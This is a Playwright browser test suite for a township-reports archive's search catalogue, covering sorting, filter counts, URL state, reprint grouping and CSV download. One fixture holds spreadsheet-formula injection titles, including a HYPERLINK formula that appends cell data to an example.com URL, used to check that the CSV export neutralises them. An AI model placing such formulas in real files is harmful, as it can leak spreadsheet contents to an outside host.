"""The catalogue (issue 12) and what search does with works (issue 13) and downloads
(issue 14), in Chromium on a generated archive of 300 reports (~10 % reprints).

What a researcher checks: an empty query lists every report, once per work, newest
first or by place; the number next to a filter value is the number of results that
choosing it gives; the URL brings back the same view; the CSV holds exactly the
results, and a title a spreadsheet would run as a formula stays text.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from urllib.parse import quote

import pytest

from township_reports.ingest.report import split_front_matter
from township_reports.site.reader import read_report
from township_reports.site.search.build import build_index
from township_reports.site.search.catalogue import CSV_FIELDS, place_number
from township_reports.site.search.records import (
    facet_values,
    order_records,
    record_from_markdown_file,
)
from township_reports.site.works import find_works

from .test_search_browser import listed, next_page

pytestmark = pytest.mark.browser

DONE = "#search[data-state=done]"


@pytest.fixture(scope="module")
def corpus(corpus_site):
    """The generated archive's records and works: (records by id, primary id of each report)."""
    paths = sorted((corpus_site.parent / "content" / "reports").glob("*.md"))
    records = {r.id: r for r in map(record_from_markdown_file, paths)}
    reports = []
    for path in paths:
        _, report = read_report(path)
        _, body = split_front_matter(path.read_text(encoding="utf-8"))
        reports.append(dict(report, body=body))
    primary = {copy: w.primary for w in find_works(reports) for copy in w.copies}
    assert len(set(primary.values())) < len(primary), "the corpus should hold reprints"
    return records, primary


def open_search(page, base, **params):
    query = "&".join(f"{k}={quote(str(v))}" for k, v in params.items())
    page.goto(f"{base}/search.html" + (f"?{query}" if query else ""))
    page.wait_for_selector(DONE, state="attached")
    page.wait_for_selector(".search-result[aria-busy]", state="detached")


def shown(page) -> list[str]:
    return page.eval_on_selector_all(".search-result", "els => els.map(e => e.dataset.id)")


def count(page) -> int:
    return int(page.get_attribute("#search", "data-count"))


def works_matching(records, primary, **filters) -> set[str]:
    """Primaries of the works with a copy that has every filter value (facet_values)."""
    keep = set()
    for r in records.values():
        values = facet_values(r)
        if all(any(key == v[0] for v in values[kind]) for kind, key in filters.items()):
            keep.add(primary[r.id])
    return keep


def test_the_empty_query_lists_every_work_once_newest_first(corpus_page, corpus_url, corpus):
    records, primary = corpus
    open_search(corpus_page, corpus_url)
    expected = [r.id for r in order_records(records.values()) if primary[r.id] == r.id]
    assert count(corpus_page) == len(expected) < len(records)
    assert corpus_page.locator(".search-result").count() == 20  # one page in the DOM
    assert listed(corpus_page) == expected
    status = corpus_page.inner_text("#search-status")
    assert status.startswith(f"共 {len(expected)} 篇报道") and "转载" in status


def test_the_catalogue_sorts_by_place_and_oldest_first(corpus_page, corpus_url, corpus):
    records, primary = corpus
    newest = {r.id: i for i, r in enumerate(order_records(records.values()))}
    works = [rid for rid in records if primary[rid] == rid]
    by_place = sorted(
        works, key=lambda i: (place_number(records[i].division_code) or 10**10, newest[i])
    )
    open_search(corpus_page, corpus_url, sort="place")
    assert corpus_page.input_value("#search-sort") == "place"
    assert listed(corpus_page) == by_place
    # Oldest first: the reverse of the date order, undated reports still last.
    open_search(corpus_page, corpus_url, sort="old")
    got = listed(corpus_page)
    undated = [i for i in got if not records[i].date and not records[i].date_estimate]
    assert got[len(got) - len(undated) :] == undated
    dated = [i for i in reversed(sorted(works, key=newest.get)) if i not in undated]
    assert got[: len(dated)] == dated


def option_counts(page, kind) -> dict[str, int]:
    return dict(
        page.eval_on_selector_all(
            f"#search-{kind} option[data-count]",
            "os => os.map(o => [o.value, Number(o.dataset.count)])",
        )
    )


def test_filter_counts_are_the_results_choosing_them_gives(corpus_page, corpus_url, corpus):
    records, primary = corpus
    page = corpus_page
    open_search(page, corpus_url)
    chosen: dict[str, str] = {}
    for kind in ("province", "year", "initiative", "prefecture"):
        counts = option_counts(page, kind)
        assert counts, kind
        for value, n in list(counts.items())[:3]:  # the menus' counts, checked in Python
            assert n == len(works_matching(records, primary, **chosen, **{kind: value}))
        value, n = next(iter(counts.items()))  # the most frequent value: choose it
        page.select_option(f"#search-{kind}", value)
        page.wait_for_url(re.compile(f"{kind}="))
        page.wait_for_selector(DONE, state="attached")
        chosen[kind] = value
        ids = listed(page)
        assert count(page) == n == len(ids)
        assert set(ids) == works_matching(records, primary, **chosen)
        # Every other menu counts within these results.
        for other in ("year", "initiative"):
            if other not in chosen:
                assert sum(option_counts(page, other).values()) >= 1
                assert max(option_counts(page, other).values()) <= n


def test_the_url_brings_back_the_same_view(corpus_page, corpus_url, corpus):
    page = corpus_page
    open_search(page, corpus_url)
    page.select_option("#search-sort", "place")
    page.wait_for_url(re.compile("sort=place"))
    page.wait_for_selector(DONE, state="attached")
    province = list(option_counts(page, "province"))[0]
    page.select_option("#search-province", province)
    page.wait_for_url(re.compile(f"province={province}"))
    page.wait_for_selector(DONE, state="attached")
    page.fill("#search-q", "党建")
    page.press("#search-q", "Enter")
    page.wait_for_url(re.compile("q="))
    page.wait_for_selector(DONE, state="attached")
    assert "sort=place" in page.url  # the order chosen stays with a new query
    if page.is_enabled("#search-next"):
        page.click("#search-next")
        page.wait_for_url(re.compile("page=2"))
        page.wait_for_selector(DONE, state="attached")
    page.wait_for_selector(".search-result[aria-busy]", state="detached")
    view = (shown(page), page.inner_text("#search-status"), page.input_value("#search-province"))
    url = page.url
    page.reload()
    page.wait_for_selector(DONE, state="attached")
    page.wait_for_selector(".search-result[aria-busy]", state="detached")
    assert page.url == url
    assert (shown(page), page.inner_text("#search-status")) == view[:2]
    assert page.input_value("#search-province") == view[2]
    assert page.input_value("#search-sort") == "place"
    # Back goes through the views in turn: the catalogue sorted by place in the province.
    page.go_back()
    if "page=2" in url:
        page.wait_for_selector(DONE, state="attached")
        page.go_back()
    page.wait_for_function("!location.search.includes('q=')")
    page.wait_for_selector(DONE, state="attached")
    assert page.input_value("#search-q") == ""
    assert page.input_value("#search-province") == province


def download_csv(page) -> tuple[bytes, list[dict]]:
    with page.expect_download() as info:
        page.click("#search-download")
    data = Path(info.value.path()).read_bytes()
    return data, list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_csv_holds_exactly_the_filtered_results(corpus_page, corpus_url, corpus):
    records, primary = corpus
    page = corpus_page
    open_search(page, corpus_url)
    province = list(option_counts(page, "province"))[0]
    open_search(page, corpus_url, province=province, sort="place")
    ids = listed(page)
    data, rows = download_csv(page)
    assert data.startswith("\ufeff".encode()) and b"\r\n" in data  # Excel reads the UTF-8
    assert list(rows[0]) == list(CSV_FIELDS)
    assert [row["id"] for row in rows] == ids  # every result, in the order shown
    for row in rows:
        r = records[row["id"]]
        assert (row["title"], row["province"], row["division_code"]) == (
            r.title,
            r.province,
            r.division_code or "",
        )
        assert row["initiatives"].split("；") == (r.initiatives or [""])
        assert row["page_url"] == f"{corpus_url}/{r.url}"
        copies = sorted(i for i, p in primary.items() if p == r.id and i != r.id)
        assert sorted(filter(None, row["other_copies"].split("；"))) == copies
        assert int(row["copies"]) == len(copies) + 1


@pytest.fixture(scope="module")
def formula_search(built_site, corpus):
    """An index whose titles begin as spreadsheet formulas do, served beside the site at
    ``<base_url>/formula-search/search.html``."""
    records, _ = corpus
    sample = list(records.values())[:4]
    titles = [
        '=HYPERLINK("http://example.com/?"&A1,"点击查看")',
        "+86-10-12345678 镇党委办公室",
        "-1+1 兴隆镇党建“三联”",
        "@SUM(1,1) 宋家镇“五聚焦”",
    ]
    hostile = [
        r.__class__(**{**r.__dict__, "title": t}) for r, t in zip(sample, titles, strict=True)
    ]
    folder = built_site / "formula-search"
    build_index(hostile, folder / "search")
    html = (built_site / "search.html").read_text(encoding="utf-8")
    (folder / "search.html").write_text(html.replace("./theme/", "../theme/"), encoding="utf-8")
    return titles


def test_a_formula_in_a_title_stays_text_in_the_csv(page, base_url, formula_search):
    page.goto(f"{base_url}/formula-search/search.html")
    page.wait_for_selector(DONE, state="attached")
    assert page.locator(".search-title a").all_inner_texts()  # shown as written
    _, rows = download_csv(page)
    titles = [row["title"] for row in rows]
    assert sorted(titles) == sorted("'" + t for t in formula_search)
    assert not any(t[0] in "=+-@" for t in titles)


def test_a_work_appears_once_with_its_copies(corpus_page, corpus_url, corpus):
    records, primary = corpus
    page = corpus_page
    works: dict[str, list[str]] = {}
    for copy, first in primary.items():
        works.setdefault(first, []).append(copy)
    first, copies = next((p, c) for p, c in sorted(works.items()) if len(c) > 1)
    town = records[first].division_code
    open_search(page, corpus_url, town=town)
    ids = listed(page)
    assert page.is_hidden("#search-pager")  # one page of results: no pager
    assert first in ids and not set(copies) - {first} & set(ids)
    item = page.locator(f'.search-result[data-id="{first}"]')
    assert item.get_attribute("data-copies") == str(len(copies))
    assert f"共 {len(copies)} 个版本" in item.inner_text()
    links = {
        a.split("/reports/")[-1]
        for a in item.locator(".search-copy").evaluate_all("as => as.map(a => a.href)")
    }
    assert links == {f"{c}.html" for c in copies if c != first}


def test_a_work_matches_when_any_copy_matches(corpus_page, corpus_url, corpus):
    """A phrase only a reprint has (a changed or added sentence) finds the work, shown
    by its primary copy, with the excerpt from the reprint."""
    records, primary = corpus
    for copy, first in sorted(primary.items()):
        if copy == first:
            continue
        original = records[first].title + "\n" + records[first].body
        text = records[copy].body
        phrase = next(
            (
                text[i : i + 8]
                for i in range(0, len(text) - 8)
                if "\n" not in text[i : i + 8]
                and " " not in text[i : i + 8]
                and text[i : i + 8] not in original
            ),
            None,
        )
        if phrase:
            break
    else:
        pytest.skip("no reprint in the corpus adds text")
    open_search(corpus_page, corpus_url, q=phrase)
    ids = listed(corpus_page)
    assert first in ids and copy not in ids
    # listed() leaves the last page shown; a phrase several works share may rank the
    # work on an earlier one, so page from the first until its result is there
    open_search(corpus_page, corpus_url, q=phrase)
    item = corpus_page.locator(f'.search-result[data-id="{first}"]')
    while not item.count():
        next_page(corpus_page)
    assert any(phrase in mark for mark in item.locator("mark").all_inner_texts())
    assert "摘自含有它的转载版本" in item.inner_text()


def test_the_catalogue_fits_a_phone(corpus_page, corpus_url):
    """At 375 px nothing scrolls sideways, with every menu filled (long names of
    initiatives and autonomous prefectures are what widened it)."""
    page = corpus_page
    page.set_viewport_size({"width": 375, "height": 800})
    open_search(page, corpus_url)
    province = list(option_counts(page, "province"))[0]
    open_search(page, corpus_url, province=province, sort="place")
    prefecture = list(option_counts(page, "prefecture"))[0]
    for params in ({}, {"province": province, "prefecture": prefecture}, {"q": "三会一课"}):
        open_search(page, corpus_url, **params)
        assert page.evaluate("document.documentElement.scrollWidth") <= 375, params
